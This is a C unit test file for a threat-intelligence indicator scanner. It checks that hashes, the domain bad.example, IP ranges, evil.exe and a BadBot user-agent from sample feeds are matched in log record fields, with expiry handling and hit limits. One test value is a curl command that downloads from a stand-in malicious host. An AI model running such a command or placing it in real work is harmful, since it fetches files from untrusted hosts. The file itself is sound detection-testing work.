// SPDX-License-Identifier: Apache-2.0
// Records asked for indicators: which field, which part of it, and when it was.

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/own.h"
#include "cli/scan/indicators.h"
#include "intel/feeds.h"

#define SHA1 "da39a3ee5e6b4b0d3255bfef95601890afd80709"
#define MD5 "d41d8cd98f00b204e9800998ecf8427e"

enum { HITS = 8 };

static void on_problem(void *context, const struct feed_problem *problem)
{
	assert_null(problem);
}

static struct indicators *set_make(void)
{
	until_return(feeds_free) struct feeds *feeds = feeds_new(on_problem, NULL);
	struct error err;

	feeds_add(feeds, TEXT("a.txt"), TEXT(SHA1 "\nbad.example\n192.0.2.0/24\nevil.exe\n"
		"198.51.100.1 # expires: 2016-01-01\n"));
	feeds_add(feeds, TEXT("b.csv"),
		TEXT("type,value\nuser-agent,BadBot/1.0\nimphash," MD5 "\n"));
	return feeds_set(feeds, &err);
}

static const struct {
	const char *field, *value, *time; /* NULL: it does not say */
	const char *found; /* the part; NULL: nothing */
	unsigned line;
} cases[] = {
	{"Hashes", "SHA1=" SHA1 ",MD5=00000000000000000000000000000001", NULL, SHA1, 1},
	{"Hashes", "IMPHASH=" MD5, NULL, MD5, 3},
	{"Imphash", MD5, NULL, MD5, 3},
	{"MD5", MD5, NULL, NULL, 0},
	{"QueryName", "WWW.bad.example", NULL, "WWW.bad.example", 2},
	{"CommandLine", "curl http://bad.example/x -o y", NULL, "bad.example", 2},
	{"DestinationIp", "192.0.2.77", NULL, "192.0.2.77", 3},
	{"Image", "C:\\Temp\\EVIL.exe", NULL, "C:\\Temp\\EVIL.exe", 4},
	{"cs-user-agent", "BadBot/1.0", NULL, "BadBot/1.0", 2},
	{"Description", "BadBot/1.0", NULL, NULL, 0},
	{"DestinationIp", "198.51.100.1", "2015-09-26T00:00:00Z", "198.51.100.1", 5},
	{"DestinationIp", "198.51.100.1", "2016-09-26T00:00:00Z", NULL, 0},
	{"DestinationIp", "198.51.100.1", NULL, NULL, 0},
	{"DestinationPort", "443", NULL, NULL, 0},
};

static void values_are_found_in_the_fields_of_a_record(void **state)
{
	until_return(indicators_close) struct indicators *set = set_make();
	until_return(record_names_free) struct record_names *names = record_names_new();
	until_return(arena_clear) struct arena arena = {0};
	until_return(record_clear) struct record record = {0};
	int64_t now = INT64_C(1700000000) * 1000000000;

	for (size_t i = 0; i < array_size(cases); i++) {
		struct record_hit hits[HITS];
		size_t n;

		record_begin(&record, &arena);
		record_add(&record, record_names_get(names, PART_data, text_of(cases[i].field)),
			VALUE_text, text_of(cases[i].value));
		record.time_text = text_of(cases[i].time);
		n = indicators_scan_record(set, &record, now, hits, HITS);
		assert_int_equal(n, cases[i].found != NULL);
		if (!n)
			continue;
		assert_true(text_is(hits[0].field->text, cases[i].field));
		assert_true(text_is(hits[0].value, cases[i].found));
		assert_int_equal(hits[0].indicator.line, cases[i].line);
	}
}

static void an_indicator_is_told_once_and_no_more_than_wanted(void **state)
{
	until_return(indicators_close) struct indicators *set = set_make();
	until_return(record_names_free) struct record_names *names = record_names_new();
	until_return(arena_clear) struct arena arena = {0};
	until_return(record_clear) struct record record = {0};
	static const char *const values[] = {"a.bad.example", "bad.example", "192.0.2.1", SHA1};
	struct record_hit hits[HITS];

	record_begin(&record, &arena);
	for (size_t i = 0; i < array_size(values); i++)
		record_add(&record, record_names_get(names, PART_data, TEXT("x")), VALUE_text,
			text_of(values[i]));
	record_add(&record, record_names_get(names, PART_data, TEXT("null")), VALUE_null,
		(struct text){0});
	assert_int_equal(indicators_scan_record(set, &record, 1, hits, HITS), 3);
	for (size_t max = 0; max < 3; max++)
		assert_int_equal(indicators_scan_record(set, &record, 1, hits, max), max);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(values_are_found_in_the_fields_of_a_record),
		cmocka_unit_test(an_indicator_is_told_once_and_no_more_than_wanted),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
